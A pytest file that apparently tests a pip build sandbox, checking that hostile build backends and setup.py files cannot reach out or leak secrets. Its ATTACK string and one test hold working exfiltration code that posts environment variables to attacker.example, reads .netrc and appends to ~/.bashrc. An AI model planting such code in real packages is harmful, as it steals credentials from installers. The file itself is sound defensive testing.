"""Builds run in the sandbox: what a hostile one tries comes to nothing, and an honest one doesn't notice."""

from __future__ import annotations

import json
import subprocess
import threading
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import pytest

from support.builders import LEGACY, make_sdist, make_tree
from support.held import OLD

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from support.envs import Env, Pair
    from support.index_server import IndexServer

LET_THROUGH = '[decisions]\nhigh = "warn"\nmedium = "allow"\n'
"""What reading the code would have held is let through, so that the sandbox is all there is."""
SECRETS = {
    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "GITHUB_TOKEN": "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    "PLAIN_LOOKING": "https://user:hunter2hunter2@example.org/",
}

# Tries everything, keeps what came of it in a file of the source tree, which becomes part of the wheel.
ATTACK = """
import json, os, socket, sys, urllib.request

def attack(here, port, outside, secret):
    done = {"environ": dict(os.environ), "did": [], "argv": sys.argv, "cwd": os.getcwd()}
    def attempt(name, action):
        try:
            action()
            done["did"].append(name)
        except Exception as error:
            done[name] = repr(error)
    body = json.dumps(dict(os.environ)).encode()
    def post(url):
        urllib.request.urlopen(url, body, 5).read()
    attempt("post", lambda: post("http://127.0.0.1:%d/" % port))
    attempt("post by name", lambda: post("http://localhost:%d/" % port))
    attempt("post elsewhere", lambda: post("http://attacker.example/collect"))
    def write(path):
        with open(path, "a") as file:
            file.write("evil")
    for path in outside:
        attempt("write " + path, lambda: write(path))
    attempt("read", lambda: done.update(secret=open(secret).read()))
    attempt("home", lambda: write(os.path.expanduser("~/.bashrc")))
    path = os.path.join(here, "seen.json")
    if not os.path.exists(path):
        open(path, "w").write("[]")
    seen = json.load(open(path))
    with open(path, "w") as file:
        json.dump([*seen, done], file)
"""


class Sink:
    """A server outside that waits for what is stolen."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        sink = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                sink.received.append(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]


@pytest.fixture
def sink() -> Iterator[Sink]:
    made = Sink()
    thread = threading.Thread(target=made.server.serve_forever)
    thread.start()
    yield made
    made.server.shutdown()
    thread.join()
    made.server.server_close()


def hostile_files(sink: Sink, outside: list[Path], secret: Path) -> dict[str, str]:
    """A PEP 517 backend that attacks when it is loaded, and then builds."""
    call = f"attack(os.path.dirname(os.path.abspath(__file__)), {sink.port}, {[str(p) for p in outside]!r}, {str(secret)!r})\n"
    return {
        "evil_backend.py": ATTACK + call + "from _test_backend import *\n",
        "demo.py": "VERSION = '1.0'\n",
        "seen.json": "[]",
    }


EVIL_PYPROJECT = '[build-system]\nrequires = []\nbuild-backend = "evil_backend"\nbackend-path = ["."]\n'


def test_a_hostile_backend_reaches_nothing_and_learns_nothing(
    shared: Env, index: IndexServer, tmp_path: Path, target: Path, sink: Sink
) -> None:
    index.html_for_pip22 = True
    secret = shared.home.path / ".netrc"
    secret.write_text("machine example.org login me password hunter2\n")
    outside = [tmp_path / "outside", shared.home.path / ".profile", shared.home.tmp / "planted"]
    files = hostile_files(sink, outside, secret)
    index.add(make_sdist(tmp_path, "demo", "1.0", pyproject=EVIL_PYPROJECT, files=files), upload_time=OLD)
    result = shared.run_pip(
        "install",
        "-t",
        str(target),
        "demo",
        index=index,
        policy=LET_THROUGH,
        env=SECRETS,
    )
    assert result.returncode == 0, result
    assert sink.received == []
    assert not [path for path in outside if path.exists()]
    seen = json.loads((target / "seen.json").read_text())
    assert len(seen) >= 2, "the backend is loaded for its requirements, the metadata and the wheel"
    for done in seen:
        # Writing into a place of its own is no harm: what counts is what is there outside.
        assert [name for name in done["did"] if not name.startswith(("write", "home"))] == [], done
        assert "secret" not in done
        assert not set(SECRETS) & set(done["environ"]), done
        assert not [value for value in done["environ"].values() if "hunter2" in value]
    line = "veln-hook: the build of demo 1.0 tried to reach attacker.example"
    assert result.out.count(line) == 1, result
    assert 'allow it with sandbox.allow_hosts = ["attacker.example"] in the policy' in result.out


def _contents(wheel: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(wheel) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_a_wheel_built_inside_is_the_one_built_outside(
    shared: Env, index: IndexServer, tmp_path: Path
) -> None:
    index.html_for_pip22 = True
    index.add(make_sdist(tmp_path, "demo", "1.0"), upload_time=OLD)
    built = {}
    for way in ("auto", "off"):
        policy = f'[sandbox]\nbuilds = "{way}"\n'
        place = tmp_path / way
        result = shared.run_pip(
            "wheel", "--no-cache-dir", "-w", str(place), "demo", index=index, policy=policy
        )
        assert result.returncode == 0, result
        built[way] = _contents(place / "demo-1.0-py3-none-any.whl")
    assert built["auto"] == built["off"]


def test_what_a_build_requirement_tried_is_told(
    shared: Env, index: IndexServer, tmp_path: Path, target: Path
) -> None:
    index.html_for_pip22 = True
    code = "import urllib.request\ntry:\n    urllib.request.urlopen('http://attacker.example/', timeout=5)\nexcept OSError:\n    pass\n"
    files = {"evil_backend.py": code + "from _test_backend import *\n"}
    index.add(make_sdist(tmp_path, "helper", "1.0", pyproject=EVIL_PYPROJECT, files=files), upload_time=OLD)
    index.add(make_sdist(tmp_path, "demo", "1.0", build_requires=["helper"]), upload_time=OLD)
    result = shared.run_pip("install", "-q", "-t", str(target), "demo", index=index, policy=LET_THROUGH)
    assert result.returncode == 0, result
    line = "veln-hook: the build of helper 1.0 tried to reach attacker.example"
    assert result.out.count(line) == 1, result


@pytest.mark.parametrize("isolation", [True, False])
def test_an_editable_of_the_users_own(env: Env, tmp_path: Path, isolation: bool) -> None:
    tree = make_tree(tmp_path, "demo", "1.0")
    how = [] if isolation else ["--no-build-isolation"]
    result = env.run_pip("install", *how, "-e", str(tree))
    assert result.returncode == 0, result
    where = env.run("-c", "import demo; print(demo.__file__)", check=True)
    assert where.stdout.strip() == str(tree / "demo.py")


def _git(tree: Path, *command: str) -> str:
    words = ["git", "-c", "user.name=x", "-c", "user.email=x@example.org", *command]
    return subprocess.run(words, cwd=tree, check=True, capture_output=True, text=True).stdout


ASKS_GIT = """
import subprocess
commit = subprocess.run(["git", "describe", "--always", "--abbrev=40"], capture_output=True, text=True)
assert commit.returncode == 0, commit
open("demo.py", "w").write("COMMIT = %r\\n" % commit.stdout.strip())
from _test_backend import *
"""


def test_a_build_in_a_subdirectory_of_the_users_repository_asks_git(
    shared: Env, tmp_path: Path, target: Path
) -> None:
    tree = make_tree(
        tmp_path / "repository",
        "demo",
        "1.0",
        pyproject=EVIL_PYPROJECT,
        files={"evil_backend.py": ASKS_GIT, "demo.py": ""},
    )
    _git(tree.parent, "init", "-q")
    _git(tree.parent, "add", ".")
    _git(tree.parent, "commit", "-q", "-m", "x")
    result = shared.run_pip("install", "-t", str(target), str(tree), policy=LET_THROUGH)
    assert result.returncode == 0, result
    assert _git(tree, "rev-parse", "HEAD").strip() in (target / "demo.py").read_text()


def test_a_checkout_is_built_where_it_is(shared: Env, tmp_path: Path, target: Path) -> None:
    tree = make_tree(
        tmp_path / "repository",
        "demo",
        "1.0",
        pyproject=EVIL_PYPROJECT,
        files={"evil_backend.py": ASKS_GIT, "demo.py": ""},
    )
    _git(tree.parent, "init", "-q")
    _git(tree.parent, "add", ".")
    _git(tree.parent, "commit", "-q", "-m", "x")
    url = f"git+file://{tree.parent}#egg=demo&subdirectory={tree.name}"
    result = shared.run_pip("install", "-t", str(target), url, policy=LET_THROUGH)
    assert result.returncode == 0, result
    assert _git(tree, "rev-parse", "HEAD").strip() in (target / "demo.py").read_text()


def test_a_checkout_cant_have_a_directory_of_the_users_built(
    shared: Env, tmp_path: Path, target: Path
) -> None:
    mine = make_tree(tmp_path / "mine", "demo", "1.0")
    repository = tmp_path / "repository"
    repository.mkdir()
    (repository / "part").symlink_to(mine)
    _git(repository, "init", "-q")
    _git(repository, "add", ".")
    _git(repository, "commit", "-q", "-m", "x")
    before = sorted(mine.rglob("*"))
    url = f"git+file://{repository}#egg=demo&subdirectory=part"
    result = shared.run_pip("install", "-t", str(target), url)
    assert result.returncode == 77, result
    assert "outside of the tree" in result.out, result
    assert "Traceback" not in result.out
    assert sorted(mine.rglob("*")) == before


def test_a_home_directory_is_no_source(shared: Env, tmp_path: Path, target: Path) -> None:
    tree = make_tree(tmp_path, "demo", "1.0")
    for path in tree.iterdir():
        path.rename(shared.home.path / path.name)
    result = shared.run_pip("install", "-t", str(target), str(shared.home.path))
    assert result.returncode == 77, result
    assert "move the source into a directory of its own" in result.out, result


@pytest.mark.parametrize("binary", [True, False])
def test_a_legacy_sdist(
    make_env: Callable[..., Env], pair: Pair, index: IndexServer, tmp_path: Path, binary: bool
) -> None:
    """Old pips run ``setup.py`` themselves: ``bdist_wheel``, or ``install`` where no wheel is wanted."""
    index.html_for_pip22 = True
    env = make_env(pair, setuptools=True)
    index.add(make_sdist(tmp_path, "demo", "1.0", setup_py=LEGACY), upload_time=OLD)
    how = [] if binary else ["--no-binary", ":all:"]
    result = env.run_pip("install", "--no-build-isolation", *how, "demo", index=index)
    assert result.returncode == 0, result
    assert env.installed()["demo"] == "1.0"
    assert env.run("-c", "import demo; print(demo.VERSION)", check=True).stdout == "1.0\n"
    assert env.run_pip("uninstall", "-y", "demo").returncode == 0
    assert env.run("-c", "import demo").returncode == 1


def test_a_legacy_editable(make_env: Callable[..., Env], pair: Pair, tmp_path: Path) -> None:
    """Pips up to 25.2 run ``setup.py develop`` where setuptools is in the environment."""
    env = make_env(pair, setuptools=True)
    tree = make_tree(tmp_path, "demo", "1.0", setup_py=LEGACY)
    result = env.run_pip("install", "--no-build-isolation", "-e", str(tree))
    assert result.returncode == 0, result
    where = env.run("-c", "import demo; print(demo.__file__)", check=True)
    assert where.stdout.strip() == str(tree / "demo.py")
    assert env.run_pip("uninstall", "-y", "demo").returncode == 0


def test_a_hostile_setup_py_reaches_nothing_and_learns_nothing(
    make_env: Callable[..., Env], pair: Pair, index: IndexServer, tmp_path: Path, sink: Sink
) -> None:
    index.html_for_pip22 = True
    env = make_env(pair, setuptools=True)
    secret = env.home.path / ".netrc"
    secret.write_text("machine example.org login me password hunter2\n")
    outside = [tmp_path / "outside", env.home.path / ".profile"]
    files = hostile_files(sink, outside, secret)
    setup_py = files.pop("evil_backend.py").replace("from _test_backend import *", LEGACY)
    setup_py += (
        "print('SEEN', open(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'seen.json')).read())\n"
    )
    files.pop("seen.json")
    index.add(make_sdist(tmp_path, "demo", "1.0", setup_py=setup_py, files=files), upload_time=OLD)
    command = ["install", "-v", "--no-build-isolation", "--no-binary", ":all:", "demo"]
    result = env.run_pip(*command, index=index, policy=LET_THROUGH, env=SECRETS)
    assert result.returncode == 0, result
    assert env.installed()["demo"] == "1.0"
    assert sink.received == []
    assert not [path for path in outside if path.exists()]
    assert "SEEN [" in result.out
    assert "hunter2" not in result.out
    for value in SECRETS.values():
        assert value not in result.out
    assert "veln-hook: the build of demo 1.0 tried to reach attacker.example" in result.out
